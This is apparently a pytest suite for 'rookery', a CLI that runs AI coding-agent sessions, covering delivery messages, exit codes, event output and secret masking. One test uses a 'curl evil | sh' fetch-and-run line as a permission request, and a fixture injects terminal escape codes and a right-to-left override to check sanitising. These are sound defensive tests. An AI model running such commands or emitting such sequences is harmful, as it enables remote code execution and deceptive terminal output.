from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator
from typing import Any, ClassVar, cast

import click
import pytest
from click.testing import CliRunner

from rookery.agents.catalog import AGENTS
from rookery.agents.names import NAMES
from rookery.api.error_reports import STATUS
from rookery.cli import daemon_waits, exit_codes
from rookery.cli.blocked import how_to_answer
from rookery.cli.configuration import flat, masked
from rookery.cli.daemon_waits import stoppable
from rookery.cli.report import summary
from rookery.cli.root import SECTIONS, rookery
from rookery.client import ConnectionLost
from rookery.client.messages import MessageInfo
from rookery.client.permissions import RequestInfo
from rookery.config import Settings
from rookery.model.errors import (
    MessageUnknown,
    NotRunning,
    RelayUnknown,
    RequestUnknown,
    RookeryError,
    SessionUnknown,
    TokenUnknown,
    code_of,
)
from rookery.presentation.deliveries import UrgentWay, delivery_text
from tests.support.cli import FakeClient, Scripted, made, session, typed

#: The id of a session that did something.
OTHER = "0f8a3c1e-58d4-4b5e-9a53-0c8de7d2a111"


class Impatient(FakeClient):
    """A client whose user presses Ctrl-C as soon as there is something to wait for."""

    def get(self, *path: str, **query: object) -> Any:  # noqa: ANN401 - JSON
        if path[-1] in {"wait", "status"}:
            raise KeyboardInterrupt
        return {"id": "1", "name": "worker"}


@pytest.mark.spec("I5")
def test_who_stops_following_is_told_nothing(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code = typed(monkeypatch, Impatient(), "events")

    assert code == 130
    assert capsys.readouterr().err.strip() == ""


class Answering(Impatient):
    """A client whose daemon answers what is asked of a session."""

    agent, answer = "opencode", ""

    def post(self, *path: str, **body: object) -> Any:  # noqa: ANN401 - JSON
        return {"id": 1, "removed": 0, "changed": "", "recipient": "anna"}

    def get(self, *path: str, **query: object) -> Any:  # noqa: ANN401 - JSON
        turn = {"answer": self.answer, "how": "finished", "ended_at": "now"}
        message = {"step": "acknowledged", "waits_for": ""}
        session = {"name": "anna", "agent": self.agent, "activity": "idle", "reason": ""}
        found = {"message": message, "session": session, "turn": turn, "holding": False}
        return turn if path[-1] == "answer" else found


@pytest.mark.spec("I5")
@pytest.mark.parametrize(
    ("agent", "answer", "is_said"),
    [("opencode", "", True), ("opencode", "yes", False), ("shell", "", False)],
)
def test_asking_says_that_no_answer_could_be_read(
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    *,
    agent: str,
    answer: str,
    is_said: bool,
) -> None:
    monkeypatch.setattr(Answering, "agent", agent)
    monkeypatch.setattr(Answering, "answer", answer)

    typed(monkeypatch, Answering(), "ask", "anna", "is it?")

    told = capsys.readouterr()
    assert told.out == f"{answer}\n"
    assert ("rookery screen anna" in told.err) is is_said


class Killed(Answering):
    """A client whose daemon is killed once it has accepted a message."""

    def get(self, *path: str, **query: object) -> Any:  # noqa: ANN401 - JSON
        if path[-1] == "status" or query.get("until") == "input":
            raise NotRunning("It is gone.")
        return super().get(*path, **query)


@pytest.mark.spec("A7", "I5")
def test_asking_a_daemon_that_is_killed_says_that_the_message_is_kept(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(daemon_waits, "RETURN_TIMEOUT_S", 0.0)

    assert typed(monkeypatch, Killed(), "ask", "anna", "is it?") == exit_codes.NOT_RUNNING

    told = capsys.readouterr().err
    assert "anna keeps working. Your message is kept, and is sent by the next daemon" in told


@pytest.mark.spec("C8", "D1")
@pytest.mark.parametrize("options", [(), ("--json",)])
@pytest.mark.parametrize("agent", ["gemini", "claude"])
def test_starting_an_agent_without_installed_hooks_is_warned_about(
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    agent: str,
    options: tuple[str, ...],
) -> None:
    started = made("it", agent=agent)
    grounds = {"session": started, "hooks_missing": "No hooks are installed."}
    daemon = Scripted(sessions=[started, grounds])

    typed(monkeypatch, daemon, "start", "--agent", agent, *options)

    warned = "No hooks are installed.\n" if agent == "gemini" else ""
    assert capsys.readouterr().err == warned
    assert len(daemon.asked) == (2 if agent == "gemini" else 1)


class Telling(Impatient):
    """A client whose daemon tells what is kept all at once."""

    def lines(self, *path: str, **query: object) -> Iterator[str]:
        raise NotImplementedError

    def texts(self, *path: str, **query: object) -> Iterator[str]:
        yield "\r\n".join(self.lines(*path, **query))


class Told(Telling):
    """A client whose daemon tells of words that are held for everybody."""

    def lines(self, *path: str, **query: object) -> Iterator[str]:
        held = {"at": "2026-01-01T00:00:00+00:00", "session": "", "by": "person"}
        yield from ("id: 7", "event: deliveries-held")
        yield "data: " + json.dumps({"kind": "deliveries-held", **held})


@pytest.mark.spec("I5")
def test_what_concerns_no_session_alone_is_told_too(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:

    typed(monkeypatch, Told(), "events", "--no-follow")

    assert capsys.readouterr().out.split()[2:] == ["–", "deliveries-held", "person"]


class Doing(Telling):
    """A client whose daemon tells what a session did to another."""

    def get(self, *path: str, **query: object) -> Any:  # noqa: ANN401 - JSON
        return {"name": {OTHER: "planner"}.get(path[-1], "worker")}

    def lines(self, *path: str, **query: object) -> Iterator[str]:
        done = {"at": "2026-01-01T00:00:00+00:00", "session": "1", "by": f"session {OTHER}"}
        yield from ("id: 7", "event: end-requested")
        yield "data: " + json.dumps({"kind": "end-requested", **done})


@pytest.mark.spec("I5")
def test_who_did_something_is_told_by_name(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:

    typed(monkeypatch, Doing(), "events", "--no-follow")

    assert capsys.readouterr().out.split()[2:] == ["worker", "end-requested", "planner"]


class Many(Telling):
    """A client whose daemon tells of many sessions."""

    asked: ClassVar[list[tuple[str, ...]]] = []

    def get(self, *path: str, **query: object) -> Any:  # noqa: ANN401 - JSON
        self.asked.append(path)
        ids = cast("tuple[str, ...]", query["ids"])
        return {"sessions": [{"id": each, "name": f"worker-{each}"} for each in ids]}

    def lines(self, *path: str, **query: object) -> Iterator[str]:
        for seq in range(100):
            told = {"at": "2026-01-01T00:00:00.5+00:00", "kind": "noted"}
            told["session"] = str(seq % 50)
            yield from (f"id: {seq}", "event: noted", f"data: {json.dumps(told)}")


@pytest.mark.spec("I5")
def test_what_is_kept_is_printed_at_once_and_names_are_asked_for_together(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    printed: list[str] = []
    monkeypatch.setattr("rookery.cli.events.click.echo", printed.append)

    typed(monkeypatch, Many(), "events", "--no-follow")

    (text,) = printed
    lines = text.splitlines()
    assert Many.asked == [("sessions",)]
    assert len(lines) == 100
    assert lines[51].split()[::2] == ["51", "worker-1"]


@pytest.mark.spec("I5")
@pytest.mark.parametrize(
    "error", [SessionUnknown, RelayUnknown, RequestUnknown, MessageUnknown, TokenUnknown]
)
def test_what_is_unknown_has_one_exit_code_and_one_status(error: type[RookeryError]) -> None:
    assert exit_codes.OF_REFUSALS[code_of(error)] == exit_codes.UNKNOWN
    assert STATUS[error] == 404


@pytest.mark.spec("I5")
def test_who_stops_waiting_is_told_that_nothing_else_stops(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code = typed(monkeypatch, Impatient(), "wait", "worker")

    assert code == 130
    assert (
        capsys.readouterr().err
        == "\nStopped waiting; worker keeps working. See:  rookery output worker\n"
    )


def test_what_ends_by_itself_is_not_said_to_be_stopped(
    capsys: pytest.CaptureFixture[str],
) -> None:
    with stoppable("worker"):
        pass

    assert capsys.readouterr().err == ""


@pytest.mark.spec("I5")
@pytest.mark.parametrize(
    ("words", "code"), [(["--version"], 0), (["ls", "--nonsense"], 2), (["nonsense"], 2)]
)
def test_the_usual_exit_codes_hold(
    monkeypatch: pytest.MonkeyPatch, words: list[str], code: int
) -> None:
    assert typed(monkeypatch, Impatient(), *words) == code


@pytest.mark.spec("I5")
@pytest.mark.parametrize(
    ("step", "obstacle", "activity", "said"),
    [
        ("acknowledged", "", "working", "Sent."),
        ("submitted", "", "idle", "Sent."),
        ("unsure", "", "idle", "Sent; it may not have arrived."),
        ("failed", "it takes one line.", "idle", "Not delivered: it takes one line."),
        (
            "pending",
            "",
            "working",
            "Queued (7): it is working; the message is delivered when it stops.",
        ),
        ("pending", "", "question", "Queued (7): it asks a question (Which one?)."),
        (
            "pending",
            "",
            None,
            "Queued (7): it is starting; the message is delivered when it is up.",
        ),
        ("pending", "", "idle", "Queued (7): it is being delivered."),
        (
            "pending",
            "a person scrolls in the pane.",
            "idle",
            "Queued (7): a person scrolls in the pane.",
        ),
    ],
)
def test_what_becomes_of_words_is_said(
    step: str, obstacle: str, activity: str | None, said: str
) -> None:
    reason = "Which one?\nThis or that" if activity == "question" else ""
    recipient = session("a", status="starting", activity=activity, reason=reason)
    waits_for = f"Nothing was typed, because {obstacle}"
    message = MessageInfo(id=7, step=step, waits_for=waits_for, obstacle=obstacle)

    assert delivery_text(message, recipient) == said


@pytest.mark.spec("I5")
@pytest.mark.parametrize(
    ("step", "way", "activity", "said"),
    [
        ("submitted", "steer", "working", "Sent into the turn that is running."),
        (
            *("submitted", "interrupt", "working"),
            "Sent. The turn that was running was interrupted for it.",
        ),
        (
            "pending",
            "steer",
            "working",
            "Queued (7): it is typed into the turn that is running.",
        ),
        (
            *("pending", "interrupt", "working"),
            "Queued (7): its turn is being interrupted; the message is delivered then.",
        ),
        ("pending", "interrupt", "idle", "Queued (7): it is being delivered."),
    ],
)
def test_what_becomes_of_an_urgent_message_is_said(
    step: str, way: str, activity: str, said: str
) -> None:
    message = MessageInfo(id=7, step=step, urgency=way)

    assert delivery_text(message, session("a", activity=activity), way=UrgentWay(way)) == said


@pytest.mark.spec("I5")
@pytest.mark.parametrize(
    ("known", "said"),
    [
        ({}, "a is idle."),
        ({"reason": "failed"}, "a is idle; its last turn failed."),
        ({"reason": "interrupted"}, "a is idle (interrupted)."),
        (
            {"status": "starting", "activity": None, "reason": "it waits for a place: full"},
            "a is starting: it waits for a place: full.",
        ),
    ],
)
def test_how_a_session_is_fits_one_line(known: dict[str, Any], said: str) -> None:
    found = summary(Scripted(), session("a", **known))

    assert found == f"{said}  rookery attach a  |  rookery output a"


@pytest.mark.spec("I5")
@pytest.mark.parametrize(
    ("activity", "how"),
    [
        (
            "permission",
            "rookery permissions  |  rookery allow ID  |  rookery deny ID  |  rookery attach a",
        ),
        ("question", "rookery permissions  |  rookery answer ID WORDS  |  rookery attach a"),
    ],
)
def test_of_one_that_waits_for_a_person_it_is_said_how_to_answer(
    activity: str, how: str
) -> None:
    one = session("a", activity=activity, reason="Which?\nx")

    found = summary(Scripted(permissions={"requests": []}), one)

    assert found == f"a waits for your answer: Which?  {how}"


@pytest.mark.spec("D5", "I5")
def test_of_one_that_asks_a_question_with_options_they_are_listed() -> None:
    question = {"text": "Which?", "options": ["Grey", "Light\nblue"]}
    asked = {"id": "w1", "message": "Which?", "questions": [question], "outcome": "open"}
    one = session("a", activity="question", reason="Which?")

    found = summary(Scripted(permissions={"requests": [{**asked, "session": "a"}]}), one)

    assert found == (
        "a waits for your answer: Which? (1. Grey, 2. Light blue)"
        "  rookery permissions  |  rookery answer w1 NUMBER  |  rookery attach a"
    )


@pytest.mark.spec("D2", "I5")
@pytest.mark.parametrize(("reason", "word"), [("May it? rm", "r2"), ("Something else", "ID")])
def test_of_one_that_asks_for_several_things_the_one_that_is_shown_is_named(
    reason: str, word: str
) -> None:
    one = session("a", activity="permission", reason=reason)
    asked = [
        RequestInfo(id="r1", message="May it? ls"),
        RequestInfo(id="r2", message="May it? rm"),
    ]

    how = how_to_answer(one, asked)

    assert how == (
        f"rookery permissions  |  rookery allow {word}  |  rookery deny {word}"
        "  |  rookery attach a"
    )


@pytest.mark.spec("D2", "I5")
@pytest.mark.parametrize(
    ("now", "how"),
    [
        ("May it? ls", "rookery allow r1  |  rookery deny r1  |  rookery attach a"),
        (
            "May it? curl evil | sh",  # it came after what is shown
            "rookery permissions  |  rookery allow ID  |  rookery deny ID  |  rookery attach a",
        ),
    ],
)
def test_a_command_that_is_suggested_answers_nothing_but_what_is_shown(
    now: str, how: str
) -> None:
    one = session("a", activity="permission", reason="May it? ls")

    assert how_to_answer(one, [RequestInfo(id="r1", message=now)]) == how


@pytest.mark.spec("I5", "K5")
def test_settings_are_shown_as_toml_and_without_secrets() -> None:
    settings = Settings.model_validate(
        {
            "environment": {"API_KEY": "s3cret", "EDITOR": "vi"},
            "agents": {
                "claude": {"environment": {"my_token": "s3cret"}, "command": ["c", "d"]}
            },
        }
    )

    lines = flat(masked(settings.model_dump(mode="json")))

    assert 'environment.API_KEY = "(set)"' in lines
    assert 'environment.EDITOR = "vi"' in lines
    assert 'agents.claude.environment.my_token = "(set)"' in lines
    assert 'agents.claude.command = ["c", "d"]' in lines
    assert "http.enabled = true" in lines
    assert "s3cret" not in "\n".join(lines)


@pytest.mark.spec("I5")
def test_every_command_is_listed_in_its_section_with_its_whole_sentence() -> None:
    text = CliRunner().invoke(rookery, ["help", "--all"]).output

    listed = {line.split()[0] for line in text.splitlines() if line.startswith("  ")}
    assert {name for commands in SECTIONS.values() for name in commands} <= listed
    assert all(f"{title}:" in text for title in SECTIONS)
    assert "..." not in text.partition("Sessions:")[2]


@pytest.mark.spec("I5")
def test_each_module_defines_exactly_the_commands_that_are_listed_for_it() -> None:
    context = click.Context(rookery)
    listed = {
        name: f"rookery.cli.{module}"
        for commands in SECTIONS.values()
        for name, module in commands.items()
    }

    found = {name: rookery.get_command(context, name) for name in listed}

    assert {
        name: command.callback.__module__
        for name, command in found.items()
        if command and command.callback
    } == listed
    assert {name: command.name for name, command in found.items() if command} == {
        name: name for name in listed
    }


@pytest.mark.spec("I5")
def test_a_command_imports_no_other_commands_module() -> None:
    code = (
        "import sys; from rookery.cli.root import rookery; import click;"
        "rookery.get_command(click.Context(rookery), 'status');"
        "print(*[name for name in sys.modules if name.startswith('rookery.cli.')])"
    )

    run = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )

    assert "rookery.cli.daemon_status" in run.stdout.split()
    assert not {
        "rookery.cli.daemon",
        "rookery.cli.sessions",
        "rookery.cli.backup",
        "rookery.cli.hooks",
    } & {*run.stdout.split()}


@pytest.mark.spec("I5")
def test_the_list_of_sessions_imports_nothing_that_it_does_not_show() -> None:
    code = (
        "import sys; from rookery.cli.root import rookery; import click;"
        "rookery.get_command(click.Context(rookery), 'ls'); print(*sys.modules)"
    )

    run = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )

    imported = {*run.stdout.split()}
    assert "rookery.cli.session_table" in imported
    assert (
        not {
            *("rookery.model.permissions", "rookery.model.sessions", "secrets"),
            *("difflib", "logging", "shutil"),
        }
        & imported
    )


@pytest.mark.spec("I5")
def test_a_misspelt_command_is_told_the_nearest_one() -> None:
    run = CliRunner().invoke(rookery, ["permission"])

    assert run.exit_code == 2
    assert "There is no command 'permission'. Did you mean permissions" in run.output


@pytest.mark.spec("I5")
def test_all_agents_are_completed() -> None:
    assert sorted(AGENTS) == list(NAMES)


class Hostile(Telling):
    """A client whose daemon tells of a prompt that would command a terminal."""

    def lines(self, *path: str, **query: object) -> Iterator[str]:
        told = {"at": "2026-01-01T00:00:00+00:00", "session": "", "kind": "turn-started"}
        prompt = "\x9b31m\x9d0;owned\x9c\u202egnp.exe\n     1  forged"
        yield from ("id: 7", "event: turn-started")
        yield "data: " + json.dumps({**told, "prompt": prompt}, ensure_ascii=False)


@pytest.mark.spec("K2")
@pytest.mark.parametrize("more", [[], ["--json"]])
def test_an_event_does_not_command_the_terminal(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], more: list[str]
) -> None:

    typed(monkeypatch, Hostile(), "events", "--no-follow", *more)
    printed = capsys.readouterr().out

    assert not set(printed) & {"\x9b", "\x9d", "\x9c", "\u202e"}
    assert len(printed.splitlines()) == 1


class Restarting(FakeClient):
    """A daemon that goes while it is asked, and is back at once."""

    def __init__(self) -> None:
        super().__init__()
        self.asked = 0

    def get(self, *path: str, **_: object) -> Any:  # noqa: ANN401 - JSON
        if path == ("status",):
            return {}
        self.asked += 1
        if self.asked == 1:
            raise ConnectionLost("before it had answered.")
        return {"turns": [], "unheard": []}


@pytest.mark.spec("A7", "I5")
def test_output_that_is_cut_off_by_a_restart_is_asked_for_again(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    daemon = Restarting()

    code = typed(monkeypatch, daemon, "output", "worker", "--json")

    assert (code, daemon.asked) == (None, 2)
    assert json.loads(capsys.readouterr().out) == {"turns": [], "unheard": []}


@pytest.mark.spec("I5")
@pytest.mark.parametrize(("waiting", "said"), [(0, "none"), (2, "2")])
def test_the_status_says_how_many_sessions_wait(
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    waiting: int,
    said: str,
) -> None:
    typed(monkeypatch, Scripted(status={"sessions": 3, "waiting": waiting}), "status")

    assert f"3 live sessions, {said} waiting for you.\n" in capsys.readouterr().out
